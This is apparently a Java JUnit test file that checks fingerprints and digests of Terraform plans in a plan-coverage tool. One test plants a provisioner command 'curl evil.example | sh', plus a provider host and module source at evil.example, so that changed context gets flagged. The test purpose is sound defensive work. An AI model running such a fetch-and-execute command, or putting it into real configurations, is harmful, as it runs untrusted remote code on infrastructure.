package io.tidegate.plan;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tidegate.terraformcloud.RecordedPlans;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class DigestPropertiesTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @ParameterizedTest
    @MethodSource("io.tidegate.terraformcloud.RecordedPlans#names")
    void the_order_of_keys_and_the_spelling_of_numbers_change_nothing(String name) throws Exception {
        JsonNode plan = JSON.readTree(RecordedPlans.text(name + "/plan.json"));
        Fingerprint fingerprint = RecordedPlans.read(plan.toString()).fingerprint();
        for (long seed = 0; seed < (name.contains("large") ? 1 : 10); seed++) {
            assertThat(RecordedPlans.read(respelled(plan, new Random(seed))).fingerprint())
                    .as("seed %d", seed)
                    .isEqualTo(fingerprint);
        }
    }

    @Test
    void a_plan_at_another_time_with_its_own_timestamp_as_value_is_the_same_plan() throws Exception {
        String at = "2026-11-23T16:50:07Z";
        Fingerprint fingerprint = planned("03-update-in-place", at).fingerprint();
        assertThat(planned("03-update-in-place", "2027-01-01T00:00:00Z").fingerprint())
                .isEqualTo(fingerprint);
        assertThat(edited("03-update-in-place", plan -> {
                            input(plan, "app_pool").put("planned", at);
                            plan.put("timestamp", "2027-01-01T00:00:00Z");
                        })
                        .fingerprint())
                .isNotEqualTo(fingerprint);
    }

    @Test
    void state_that_merely_refreshed_and_hints_change_nothing() throws Exception {
        Plan plan = RecordedPlans.plan("03-update-in-place");
        Plan refreshed = edited("03-update-in-place", json -> {
            json.remove("prior_state");
            json.remove("relevant_attributes");
            change(json, "app_pool").withObject("/before").put("refreshed", "both");
            change(json, "app_pool").withObject("/after").put("refreshed", "both");
            json.putArray("resource_drift").add(resource(json, "app_pool").deepCopy());
            resource(json, "app_pool").put("action_reason", "a_hint");
        });
        assertThat(refreshed.fingerprint()).isEqualTo(plan.fingerprint());
    }

    @Test
    void an_element_that_moves_within_a_list_is_another_change() throws Exception {
        Plan plan = edited("01-create-all", json -> {});
        Plan moved = edited("01-create-all", json -> {
            ArrayNode tags = (ArrayNode) change(json, "cluster").at("/after/input/tags");
            tags.insert(0, tags.remove(tags.size() - 1));
        });
        differs(plan, moved);
    }

    @Test
    void another_thing_destroyed_under_the_same_address_is_another_change() throws Exception {
        for (String name : List.of("06-delete-one", "03-update-in-place", "04-replace", "23-removed-forget")) {
            Plan plan = RecordedPlans.plan(name);
            Plan other = edited(name, json -> {
                for (JsonNode resource : json.withArray("/resource_changes")) {
                    ObjectNode change = (ObjectNode) resource.get("change");
                    if (!change.at("/actions/0").asText().equals("no-op")) {
                        change.withObject("/before").put("id", "another");
                        if (change.at("/after/id").isTextual()) {
                            change.withObject("/after").put("id", "another");
                        }
                        return;
                    }
                }
            });
            differs(plan, other);
        }
    }

    @Test
    void every_part_of_a_resource_change_counts() throws Exception {
        Plan plan = RecordedPlans.plan("10-import-block");
        List<Consumer<ObjectNode>> edits = List.of(
                resource -> resource.withObject("/change/importing").put("id", "another"),
                resource -> resource.put("deposed", "abcd1234"),
                resource -> resource.put("provider_name", "another"),
                resource -> resource.put("type", "another"),
                resource -> resource.put("mode", "data"),
                resource -> resource.put("previous_address", "terraform_data.old"),
                resource -> resource.withObject("/change")
                        .putArray("replace_paths")
                        .addArray()
                        .add("input"),
                resource -> resource.withObject("/change").put("generated_config", "resource {}"),
                resource -> resource.withObject("/change")
                        .putObject("before_identity")
                        .put("arn", "x"),
                resource -> resource.withObject("/change").put("something_new", "x"),
                resource -> resource.put("something_new", "x"),
                resource -> resource.withObject("/change/after_unknown").put("triggers_replace", true),
                resource -> resource.withObject("/change/after_sensitive").put("input", true),
                resource -> resource.withObject("/change/after").put("input", "other"));
        for (int i = 0; i < edits.size(); i++) {
            Consumer<ObjectNode> edit = edits.get(i);
            Plan other = edited("10-import-block", json -> edit.accept(resource(json, "imported")));
            assertThat(other.digests()).as("edit %d", i).isNotEqualTo(plan.digests());
        }
    }

    @Test
    void a_provisioner_a_provider_and_a_module_are_parts_of_the_context_by_name() throws Exception {
        contextDiffers("31-apply-fails", "provisioners of terraform_data.prov", json -> {
            ObjectNode resource = (ObjectNode) json.at("/configuration/root_module/resources/0");
            resource.withObject("/provisioners/0/expressions/command").put("constant_value", "curl evil.example | sh");
        });
        contextDiffers(
                "03-update-in-place",
                "provider terraform",
                json -> json.withObject("/configuration/provider_config/terraform/expressions/host")
                        .put("constant_value", "evil.example"));
        contextDiffers(
                "03-update-in-place",
                "module.doks",
                json -> json.withObject("/configuration/root_module/module_calls/doks")
                        .put("source", "git::https://evil.example/doks"));
        contextDiffers(
                "03-update-in-place",
                "variable region",
                json -> json.withObject("/variables/region").put("value", "nyc1"));
        contextDiffers("03-update-in-place", "terraform version", json -> json.put("terraform_version", "1.12.0"));
        contextDiffers("03-update-in-place", "complete", json -> json.put("complete", false));
    }

    @Test
    void outputs_deferred_changes_and_actions_count_one_each() throws Exception {
        Plan plan = RecordedPlans.plan("13-output-changes-only");
        assertThat(plan.outputs()).extracting(OutputChange::name).containsExactly("added", "vpc_id");
        assertThat(edited(
                                "13-output-changes-only",
                                json -> json.withObject("/output_changes/added").put("after", "x"))
                        .digests())
                .isNotEqualTo(plan.digests());
        Plan more = edited("13-output-changes-only", json -> {
            json.putArray("deferred_changes")
                    .addObject()
                    .put("reason", "unknown")
                    .set("resource_change", resource(json, "app_pool").deepCopy());
            json.putArray("action_invocations").addObject().put("address", "action.aws_lambda_invoke.x");
        });
        assertThat(more.others())
                .extracting(OtherChange::sort)
                .containsExactly(OtherChange.Sort.DEFERRED, OtherChange.Sort.ACTION);
        assertThat(more.digests()).hasSize(plan.digests().size() + 2).containsAll(plan.digests());
    }

    @Test
    void drift_is_what_a_refresh_only_plan_does() throws Exception {
        Consumer<ObjectNode> drifted = json -> {
            ObjectNode resource = resource(json, "app_pool").deepCopy();
            resource.withObject("/change").putArray("actions").add("update");
            resource.withObject("/change/after").put("id", "drifted");
            json.putArray("resource_drift").add(resource);
        };
        assertThat(edited("02-no-op", drifted).changesNothing()).isTrue();
        Plan refreshOnly = edited("02-no-op", drifted.andThen(json -> json.put("applyable", true)));
        assertThat(refreshOnly.others()).extracting(OtherChange::sort).containsExactly(OtherChange.Sort.DRIFT);
        assertThat(refreshOnly.changesNothing()).isFalse();
    }

    @Test
    void values_of_different_types_never_share_a_digest() {
        List<Value> values = List.of(
                Value.NULL,
                new Value.Bool(false),
                new Value.Bool(true),
                new Value.Num(BigDecimal.ONE),
                new Value.Num(BigDecimal.TEN),
                new Value.Text("1"),
                new Value.Text(""),
                new Value.Text("true"),
                new Value.Token("1"),
                new Value.Text("\uD800"),
                new Value.Text("\uDC00"),
                new Value.Text("?"),
                new Value.Items(List.of()),
                new Value.Items(List.of(Value.NULL)),
                new Value.Items(List.of(new Value.Text("ab"), new Value.Text("c"))),
                new Value.Items(List.of(new Value.Text("a"), new Value.Text("bc"))),
                Value.NO_FIELDS,
                Value.NO_FIELDS.with("a", Value.NULL),
                Value.NO_FIELDS.with("a", new Value.Items(List.of())));
        assertThat(values.stream().map(RecordedPlans.KEY::digest).distinct()).hasSameSizeAs(values);
        assertThat(RecordedPlans.KEY.digest(new Value.Num(new BigDecimal("100"))))
                .isEqualTo(RecordedPlans.KEY.digest(new Value.Num(new BigDecimal("1.0e2"))));
        assertThat(new DigestKey("k2", RecordedPlans.KEY.secret()).digest(Value.NULL))
                .startsWith("t1:k2:");
        assertThat(RecordedPlans.KEY.toString()).doesNotContain("example");
    }

    private static void differs(Plan plan, Plan other) {
        assertThat(other.digests()).isNotEqualTo(plan.digests());
        assertThat(Coverage.of(other, List.of(plan), true)).isInstanceOf(CoverageVerdict.Uncovered.class);
    }

    private static void contextDiffers(String name, String part, Consumer<ObjectNode> edit) throws Exception {
        PlanDifference difference = Coverage.difference(edited(name, edit), List.of(RecordedPlans.plan(name)));
        assertThat(difference.context()).extracting(ContextDifference::part).containsExactly(part);
        assertThat(difference.addsNothing()).isTrue();
    }

    private static Plan planned(String name, String at) throws Exception {
        return edited(name, plan -> {
            input(plan, "app_pool").put("planned", at);
            plan.put("timestamp", at);
        });
    }

    private static Plan edited(String name, Consumer<ObjectNode> edit) throws Exception {
        ObjectNode plan = (ObjectNode) JSON.readTree(RecordedPlans.text(name + "/plan.json"));
        edit.accept(plan);
        return RecordedPlans.read(plan.toString());
    }

    private static ObjectNode resource(ObjectNode plan, String name) {
        for (JsonNode resource : plan.withArray("/resource_changes")) {
            if (resource.get("name").asText().equals(name)) {
                return (ObjectNode) resource;
            }
        }
        throw new AssertionError(name);
    }

    private static ObjectNode change(ObjectNode plan, String name) {
        return resource(plan, name).withObject("/change");
    }

    private static ObjectNode input(ObjectNode plan, String name) {
        return change(plan, name).withObject("/after/input");
    }

    /** The same document with shuffled keys, and numbers as 2, 2.0, 20e-1 or 0.2E1. */
    private static String respelled(JsonNode node, Random random) throws Exception {
        if (node.isObject()) {
            List<String> names = new ArrayList<>();
            node.fieldNames().forEachRemaining(names::add);
            Collections.shuffle(names, random);
            List<String> fields = new ArrayList<>();
            for (String name : names) {
                fields.add(JSON.writeValueAsString(name) + ":" + respelled(node.get(name), random));
            }
            return "{" + String.join(",", fields) + "}";
        }
        if (node.isArray()) {
            List<String> items = new ArrayList<>();
            for (JsonNode item : node) {
                items.add(respelled(item, random));
            }
            return "[" + String.join(" ,", items) + "]";
        }
        if (node.isNumber()) {
            BigDecimal number = node.decimalValue();
            return switch (random.nextInt(3)) {
                case 0 -> number.setScale(number.scale() + 2).toPlainString();
                case 1 -> number.unscaledValue().multiply(java.math.BigInteger.TEN) + "e" + (-number.scale() - 1);
                default -> number.toString();
            };
        }
        return node.toString();
    }
}
